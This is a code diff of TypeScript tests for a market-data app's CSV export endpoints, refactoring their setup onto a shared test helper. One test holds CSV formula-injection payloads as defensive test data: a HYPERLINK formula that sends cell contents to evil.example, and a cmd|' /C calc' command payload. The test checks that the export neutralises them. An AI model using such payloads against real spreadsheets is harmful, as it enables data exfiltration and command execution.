@@ -1,33 +1,21 @@
 // The CSV exports over real HTTP against the bundled DeepSeek data, parsed with csv-parse and held against
 // the JSON API and the database.
 import fc from 'fast-check';
-import type { RunningApp } from '../../src/app/server';
 import { attachNews, upsertEvent, upsertNews } from '../../src/events/eventStore';
 import { upsertDailyBars } from '../../src/bars/dailyBarStore';
 import type { DetectedMove } from '../../src/moves/moveContract';
 import { saveInstrument } from '../../src/instruments/instrumentStore';
-import { startTestApp } from '../support/testApp';
-import { createTestDatabase, type TestDatabase } from '../support/testDb';
+import { useTestApp } from '../support/testApp';
 import { expectedCell, expectedTextCell, getCsv } from './helpers';
 
-let db: TestDatabase;
-let app: RunningApp;
+const t = useTestApp();
 
-beforeAll(async () => {
-  db = await createTestDatabase();
-  app = await startTestApp(db);
-});
-afterAll(async () => {
-  await app?.stop();
-  await db?.drop();
-});
-
-const json = async (path: string) => (await fetch(app.url + path)).json();
+const json = async (path: string) => (await fetch(t.app.url + path)).json();
 const BAR_FIELDS = ['open', 'high', 'low', 'close', 'adjClose', 'volume', 'provisional'] as const;
 
 describe('GET /api/export/bars.csv', () => {
   it('holds exactly the bars of the JSON API, symbol by symbol, with the currency on every row', async () => {
-    const csv = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA,6857.T,^N225&from=2024-12-01&to=2025-02-28');
+    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T,^N225&from=2024-12-01&to=2025-02-28');
     expect(csv.status).toBe(200);
     expect(csv.header).toEqual(['symbol', 'currency', 'date', ...BAR_FIELDS]);
     for (const symbol of ['NVDA', '6857.T', '^N225']) {
@@ -46,23 +34,23 @@ describe('GET /api/export/bars.csv', () => {
   });
 
   it('writes stored prices as they are: 118.42 stays 118.42, an empty cell for a null', async () => {
-    const csv = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-27&to=2025-01-27');
+    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-27&to=2025-01-27');
     const text = csv.bytes.toString('utf8');
     expect(text).toContain('NVDA,USD,2025-01-27,124.8,128.4,116.7,118.42,');
-    await upsertDailyBars(db.pool, [{ symbol: 'SMH', date: '2031-01-02', open: null, high: null, low: null, close: 250.5, adjClose: null, volume: null }], { source: 'test' });
-    const withNulls = await getCsv(app.url, '/api/export/bars.csv?symbols=SMH&from=2031-01-02&to=2031-01-02');
+    await upsertDailyBars(t.db.pool, [{ symbol: 'SMH', date: '2031-01-02', open: null, high: null, low: null, close: 250.5, adjClose: null, volume: null }], { source: 'test' });
+    const withNulls = await getCsv(t.app.url, '/api/export/bars.csv?symbols=SMH&from=2031-01-02&to=2031-01-02');
     expect(withNulls.bytes.toString('utf8')).toBe('symbol,currency,date,open,high,low,close,adjClose,volume,provisional\r\nSMH,USD,2031-01-02,,,,250.5,,,false\r\n');
   });
 
   it('prints every double as JavaScript does (shortest round-trip), whatever its size', async () => {
-    await saveInstrument(db.pool, { symbol: 'PREC', name: 'precision probe', exchange: 'US', currency: 'USD', timeZone: 'America/New_York', kind: 'equity', benchmarkSymbol: null });
+    await saveInstrument(t.db.pool, { symbol: 'PREC', name: 'precision probe', exchange: 'US', currency: 'USD', timeZone: 'America/New_York', kind: 'equity', benchmarkSymbol: null });
     const edge = [0.1 + 0.2, 118.42, -0.1697, 1e-7, 0.00001234, 5e-324, 1.7976931348623157e308, 123456789012345680000, 1e21, -0, 2 ** 53 + 2];
     const random = fc.sample(fc.double({ noNaN: true, noDefaultInfinity: true }), { numRuns: 3000, seed: 20250127 });
     const values = [...edge, ...random];
     const day0 = Date.UTC(2040, 0, 1);
     const dateOf = (i: number) => new Date(day0 + i * 86_400_000).toISOString().slice(0, 10);
-    await upsertDailyBars(db.pool, values.map((v, i) => ({ symbol: 'PREC', date: dateOf(i), open: v, high: null, low: null, close: v, adjClose: null, volume: null })), { source: 'test' });
-    const csv = await getCsv(app.url, '/api/export/bars.csv?symbols=PREC');
+    await upsertDailyBars(t.db.pool, values.map((v, i) => ({ symbol: 'PREC', date: dateOf(i), open: v, high: null, low: null, close: v, adjClose: null, volume: null })), { source: 'test' });
+    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=PREC');
     expect(csv.rows).toHaveLength(values.length);
     csv.rows.forEach((row, i) => {
       expect(row.date).toBe(dateOf(i));
@@ -72,24 +60,24 @@ describe('GET /api/export/bars.csv', () => {
   });
 
   it('names the file after what it holds and declares CSV in UTF-8', async () => {
-    const csv = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-01&to=2025-01-31');
+    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-01&to=2025-01-31');
     expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
     expect(csv.headers.get('content-disposition')).toBe('attachment; filename="aftershock-bars-NVDA-2025-01-01-2025-01-31.csv"');
-    const two = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA,^GSPC&from=2025-01-01');
+    const two = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,^GSPC&from=2025-01-01');
     expect(two.headers.get('content-disposition')).toBe('attachment; filename="aftershock-bars-NVDA_GSPC-from-2025-01-01.csv"');
   });
 
   it('answers HEAD with the headers of the download and no body', async () => {
-    const res = await fetch(`${app.url}/api/export/bars.csv?symbols=NVDA&from=2025-01-01&to=2025-01-31`, { method: 'HEAD' });
+    const res = await fetch(`${t.app.url}/api/export/bars.csv?symbols=NVDA&from=2025-01-01&to=2025-01-31`, { method: 'HEAD' });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-disposition')).toBe('attachment; filename="aftershock-bars-NVDA-2025-01-01-2025-01-31.csv"');
     expect((await res.arrayBuffer()).byteLength).toBe(0);
-    expect((await fetch(`${app.url}/api/export/bars.csv?symbols=NOPE`, { method: 'HEAD' })).status).toBe(404);
+    expect((await fetch(`${t.app.url}/api/export/bars.csv?symbols=NOPE`, { method: 'HEAD' })).status).toBe(404);
   });
 
   it('starts with a UTF-8 BOM only when asked (?bom=1), otherwise the bytes are the same', async () => {
-    const plain = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&from=2025-01-20&to=2025-01-31');
-    const withBom = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&from=2025-01-20&to=2025-01-31&bom=1');
+    const plain = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&from=2025-01-20&to=2025-01-31');
+    const withBom = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&from=2025-01-20&to=2025-01-31&bom=1');
     expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(plain.bytes.subarray(0, 6).toString()).toBe('symbol');
     expect(withBom.bytes.subarray(3).equals(plain.bytes)).toBe(true);
@@ -106,8 +94,8 @@ describe('GET /api/export/bars.csv', () => {
       ['6857.T', '5m', '2025-01-26T23:55:00Z', 9600, 10], // 08:55 in Tokyo on the 27th
       ['6857.T', '5m', '2025-01-27T06:25:00Z', 9185, 20],
     ];
-    for (const [symbol, interval, ts, price, volume] of bars) await db.pool.query(insert, [symbol, interval, ts, price, volume]);
-    const csv = await getCsv(app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&interval=5m&from=2025-01-27&to=2025-01-27');
+    for (const [symbol, interval, ts, price, volume] of bars) await t.db.pool.query(insert, [symbol, interval, ts, price, volume]);
+    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&interval=5m&from=2025-01-27&to=2025-01-27');
     expect(csv.status).toBe(200);
     expect(csv.header).toEqual(['symbol', 'currency', 'interval', 'ts', 'open', 'high', 'low', 'close', 'volume']);
     expect(csv.rows.map((r) => [r.symbol, r.currency, r.interval, r.ts, r.close, r.volume]).sort()).toEqual([
@@ -132,7 +120,7 @@ describe('GET /api/export/bars.csv', () => {
       ['symbols=NVDA&symbol=NVDA', '"symbol"'],
     ];
     for (const [query, param] of cases) {
-      const res = await fetch(`${app.url}/api/export/bars.csv?${query}`);
+      const res = await fetch(`${t.app.url}/api/export/bars.csv?${query}`);
       expect([query, res.status]).toEqual([query, 400]);
       expect(res.headers.get('content-type')).toMatch(/^application\/json/);
       expect(res.headers.get('content-disposition')).toBeNull();
@@ -143,7 +131,7 @@ describe('GET /api/export/bars.csv', () => {
   });
 
   it('answers unknown symbols with a JSON 404 naming them', async () => {
-    const res = await fetch(`${app.url}/api/export/bars.csv?symbols=NVDA,NOPE,ZZZZ`);
+    const res = await fetch(`${t.app.url}/api/export/bars.csv?symbols=NVDA,NOPE,ZZZZ`);
     expect(res.status).toBe(404);
     const body = await res.json();
     expect(body.error).toMatchObject({ code: 'not_found', message: expect.stringContaining('NOPE, ZZZZ') });
@@ -163,13 +151,13 @@ describe('GET /api/export/moves.csv', () => {
 
   beforeAll(async () => {
     // a person removed one automatic link: neither the JSON API nor the export may show it
-    await db.pool.query(`UPDATE move_event_links SET linked = false, origin = 'manual'
+    await t.db.pool.query(`UPDATE move_event_links SET linked = false, origin = 'manual'
       WHERE move_id = (SELECT id FROM price_moves WHERE symbol = 'NVDA' AND date = '2025-01-27')
         AND event_id = (SELECT id FROM events WHERE slug = 'trump-wake-up-call')`);
   });
 
   it('holds the moves of GET /api/moves, one row per linked event, offsets as numbers', async () => {
-    const csv = await getCsv(app.url, '/api/export/moves.csv');
+    const csv = await getCsv(t.app.url, '/api/export/moves.csv');
     expect(csv.header).toEqual(MOVE_HEADER);
     const { moves } = await json('/api/moves?limit=5000');
     expect(moves.length).toBeGreaterThan(5);
@@ -182,17 +170,17 @@ describe('GET /api/export/moves.csv', () => {
 
   it('filters by symbol, dates and a minimum |move| in percent, as GET /api/moves does', async () => {
     for (const q of ['min=5', 'symbol=NVDA,6857.T&from=2025-01-01&to=2025-01-31', 'symbol=NVDA&min=16.96', 'min=16.97', 'from=2025-03-01']) {
-      const csv = await getCsv(app.url, `/api/export/moves.csv?${q}`);
+      const csv = await getCsv(t.app.url, `/api/export/moves.csv?${q}`);
       const { moves } = await json(`/api/moves?limit=5000&${q}`);
       expect([q, cellsOf(csv)]).toEqual([q, expectedRows(moves)]);
     }
-    const nvdaJan = await getCsv(app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-01&to=2025-01-31&min=10');
+    const nvdaJan = await getCsv(t.app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-01&to=2025-01-31&min=10');
     expect([...new Set(nvdaJan.rows.map((r) => r.date))]).toEqual(['2025-01-27']);
     expect(nvdaJan.headers.get('content-disposition')).toBe('attachment; filename="aftershock-moves-NVDA-2025-01-01-2025-01-31.csv"');
   });
 
   it('keeps negative numbers numeric: no quote, no formula guard', async () => {
-    const csv = await getCsv(app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-27&to=2025-01-27');
+    const csv = await getCsv(t.app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-27&to=2025-01-27');
     const move = String(118.42 / 142.62 - 1);
     expect(move.startsWith('-0.1696')).toBe(true);
     expect(csv.bytes.toString('utf8')).toMatch(new RegExp(`\\r\\n\\d+,NVDA,2025-01-27,${move.replace('.', '\\.')},-0\\.\\d+,-0\\.\\d+,-\\d`));
@@ -201,11 +189,11 @@ describe('GET /api/export/moves.csv', () => {
 
   it('400s a bad minimum or date and 404s an unknown symbol', async () => {
     for (const [q, param] of [['min=-5', 'min'], ['min=five', 'min'], ['min=101', 'min'], ['from=2025-01-32', 'from'], ['limit=5', 'limit']]) {
-      const res = await fetch(`${app.url}/api/export/moves.csv?${q}`);
+      const res = await fetch(`${t.app.url}/api/export/moves.csv?${q}`);
       expect([q, res.status]).toEqual([q, 400]);
       expect((await res.json()).error.message).toContain(param);
     }
-    const res = await fetch(`${app.url}/api/export/moves.csv?symbol=NVDA,NOPE`);
+    const res = await fetch(`${t.app.url}/api/export/moves.csv?symbol=NVDA,NOPE`);
     expect(res.status).toBe(404);
     expect((await res.json()).error.message).toContain('NOPE');
   });
@@ -213,7 +201,7 @@ describe('GET /api/export/moves.csv', () => {
 
 describe('GET /api/export/events.csv', () => {
   it('has one row per event and news item, as GET /api/events and /api/events/:slug give them', async () => {
-    const csv = await getCsv(app.url, '/api/export/events.csv');
+    const csv = await getCsv(t.app.url, '/api/export/events.csv');
     expect(csv.headers.get('content-disposition')).toBe('attachment; filename="aftershock-events.csv"');
     const { events } = await json('/api/events');
     const expected: string[][] = [];
@@ -238,12 +226,12 @@ describe('GET /api/export/events.csv', () => {
 
   it('neutralises text a spreadsheet would run as a formula, and only that', async () => {
     const titles = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'Nvidia -17%, "worst day"\nsince 2020', 'a=b is fine'];
-    const eventId = await upsertEvent(db.pool, { slug: 'formula-injection', title: titles[0], occurredAt: new Date('2031-05-01T10:00:00Z'), dateOnly: false, kind: '@kind', description: '-fell 17%' });
+    const eventId = await upsertEvent(t.db.pool, { slug: 'formula-injection', title: titles[0], occurredAt: new Date('2031-05-01T10:00:00Z'), dateOnly: false, kind: '@kind', description: '-fell 17%' });
     for (const [i, title] of titles.entries()) {
-      const newsId = await upsertNews(db.pool, { url: `https://example.test/news/${i}`, title, publisher: i === 0 ? '=cmd()' : 'Example', publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)), dateOnly: false });
-      await attachNews(db.pool, eventId, newsId, 'coverage');
+      const newsId = await upsertNews(t.db.pool, { url: `https://example.test/news/${i}`, title, publisher: i === 0 ? '=cmd()' : 'Example', publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)), dateOnly: false });
+      await attachNews(t.db.pool, eventId, newsId, 'coverage');
     }
-    const csv = await getCsv(app.url, '/api/export/events.csv');
+    const csv = await getCsv(t.app.url, '/api/export/events.csv');
     const rows = csv.rows.filter((r) => r.eventSlug === 'formula-injection');
     expect(rows.map((r) => r.newsTitle)).toEqual([
       `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
@@ -264,7 +252,7 @@ describe('GET /api/export/events.csv', () => {
   });
 
   it('400s anything but bom', async () => {
-    const res = await fetch(`${app.url}/api/export/events.csv?from=2025-01-01`);
+    const res = await fetch(`${t.app.url}/api/export/events.csv?from=2025-01-01`);
     expect(res.status).toBe(400);
     expect((await res.json()).error.message).toContain('from');
   });
